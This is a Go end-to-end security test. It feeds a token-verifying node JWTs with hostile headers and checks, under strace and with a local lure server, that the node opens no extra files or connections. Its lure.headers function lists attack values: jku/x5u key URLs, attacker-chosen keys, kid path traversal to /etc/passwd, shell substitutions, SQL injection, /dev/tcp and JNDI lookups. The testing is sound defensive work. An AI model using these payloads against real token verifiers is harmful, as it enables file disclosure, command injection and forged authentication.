package e2e

import (
	"encoding/base64"
	"encoding/json"
	"maps"
	"net"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/golang-jwt/jwt/v5"
)

// TestATokenMakesTheNodeOpenNothing sends tokens whose headers name keys by
// paths, addresses and commands, under strace: the node opens no file and no
// connection, and runs no program, that it does not with good tokens.
func TestATokenMakesTheNodeOpenNothing(t *testing.T) {
	t.Parallel()
	n := newNode(t, worldConfig(lifetimes{}))
	writeIssuerKeys(t, n.Dir)
	writePlatformKey(t, n.Dir)
	n.Start()
	a, d := n.mustApp("STREAM1", "STREAM2"), newDevice("host")
	must(t, a.mint(t.Context(), d, "viewer"))
	good := map[string]string{"own": d.token, "external": externalToken(t, "viewer", "Adobe"), "access": a.token, "statement": a.signed}
	lure := newLure(t)
	bad := lure.tokens(good)

	rounds := volume(3, 100)
	usual := n.opens(func() {
		for range rounds {
			for use, token := range good {
				a.present(use, token, http.StatusOK, http.StatusCreated)
			}
		}
	})
	seen := n.opens(func() {
		for range rounds {
			for _, b := range bad {
				a.present(b.use, b.token, http.StatusBadRequest, http.StatusUnauthorized)
			}
		}
	})
	for call := range seen {
		if !usual[call] {
			t.Errorf("after a bad token: %s", call)
		}
	}
	select {
	case c := <-lure.caught:
		t.Errorf("somebody at %s followed a token to its address", c.RemoteAddr())
	default:
	}
	n.seesOpens()
	t.Logf("%d bad tokens, %d times each: %d openings, %d with good tokens", len(bad), rounds, len(seen), len(usual))
}

// seesOpens makes sure that openings would have been seen: a reload reads the
// configuration and the issuer's keys.
func (n *node) seesOpens() {
	n.Helper()
	seen := n.opens(func() {
		answer, err := exchange(n.Context(), n.client, "http://"+n.Admin, call{method: "POST", target: "/admin/v1/reload"})
		must(n, want(answer, err, http.StatusOK, nil))
	})
	for _, file := range []string{n.ConfigFile(), filepath.Join(n.Dir, "issuer.json")} {
		if !slices.ContainsFunc(slices.Collect(maps.Keys(seen)), func(call string) bool { return strings.Contains(call, file) }) {
			n.Errorf("the trace of a reload does not have %s: %v", file, seen)
		}
	}
}

// present sends a token where one of its use belongs.
func (a *app) present(use, token string, statuses ...int) {
	a.Helper()
	c := call{method: "GET", target: a.path("list"), headers: a.headers(newDevice("host"), "AD-Service-Token", token)}
	switch use {
	case "access":
		c.method, c.target = "POST", a.path("serviceToken")
		c.headers = map[string]string{"Authorization": "Bearer " + token, "X-SSO-ID": "viewer", "AP-Device-Identifier": "fingerprint aG9zdA=="}
	case "statement":
		body, err := json.Marshal(map[string]string{"software_statement": token})
		must(a, err)
		c = call{method: "POST", target: "/o/client/register", headers: jsonBody, body: body}
	}
	answer, err := a.do(a.Context(), c)
	must(a, err)
	if !slices.Contains(statuses, answer.Status) {
		a.Errorf("%s token: got %d %s, want one of %v", use, answer.Status, answer.Body, statuses)
	}
}

// lure is a server that nobody has a reason to call.
type lure struct {
	testing.TB
	address string
	caught  chan net.Conn
}

func newLure(t testing.TB) *lure {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	caught := make(chan net.Conn, 1)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
			select {
			case caught <- c:
			default:
			}
		}
	}()
	t.Cleanup(func() { l.Close() })
	return &lure{TB: t, address: l.Addr().String(), caught: caught}
}

// headers name keys where a verifier must not look for them.
func (l *lure) headers() []map[string]any {
	url := "http://" + l.address + "/keys.json"
	key := map[string]string{"kty": "oct", "k": base64.RawURLEncoding.EncodeToString([]byte("a key of the attacker's choice..")), "alg": "HS256"}
	headers := []map[string]any{
		{"jku": url},
		{"x5u": url},
		{"jku": "file:///etc/passwd"},
		{"jwk": key},
		{"x5c": []string{"MIIB"}},
		{"crit": []string{"b64"}, "b64": false},
		{"kid": map[string]string{"url": url}},
		{"kid": "k", "jku": url, "x5u": url, "jwk": key},
	}
	for _, kid := range []string{
		url, "file:///etc/passwd", "/etc/passwd", "../../../../etc/passwd", "sealing.key", "../data/sealing.key", "/dev/tcp/" + l.address,
		"issuer.json", "/proc/self/environ", "x\x00/etc/passwd", "' UNION SELECT '/etc/passwd' --", "| cat /etc/passwd", "$(cat /etc/passwd)",
		"${jndi:ldap://" + l.address + "/x}", "\\\\" + l.address + "\\keys", strings.Repeat("../", 1500) + "etc/passwd",
	} {
		headers = append(headers, map[string]any{"kid": kid})
	}
	return headers
}

type badToken struct{ use, token string }

// tokens are good tokens with bad headers. The external issuer's are signed with
// its key even so; the others keep a signature that is wrong now.
func (l *lure) tokens(good map[string]string) (bad []badToken) {
	l.Helper()
	for _, header := range l.headers() {
		for use, token := range good {
			bad = append(bad, badToken{use, l.reheaded(token, header)})
		}
		token := jwt.NewWithClaims(jwt.SigningMethodRS256, externalClaims("viewer", "Adobe"))
		token.Header["kid"] = issuerKeyID
		maps.Copy(token.Header, header)
		signed, err := token.SignedString(issuerKey())
		must(l, err)
		bad = append(bad, badToken{"external", signed})
	}
	return bad
}

// reheaded is a token with more in its header.
func (l *lure) reheaded(token string, more map[string]any) string {
	l.Helper()
	head, rest, _ := strings.Cut(token, ".")
	raw, err := base64.RawURLEncoding.DecodeString(head)
	must(l, err)
	header := map[string]any{}
	must(l, json.Unmarshal(raw, &header))
	maps.Copy(header, more)
	raw, err = json.Marshal(header)
	must(l, err)
	return base64.RawURLEncoding.EncodeToString(raw) + "." + rest
}
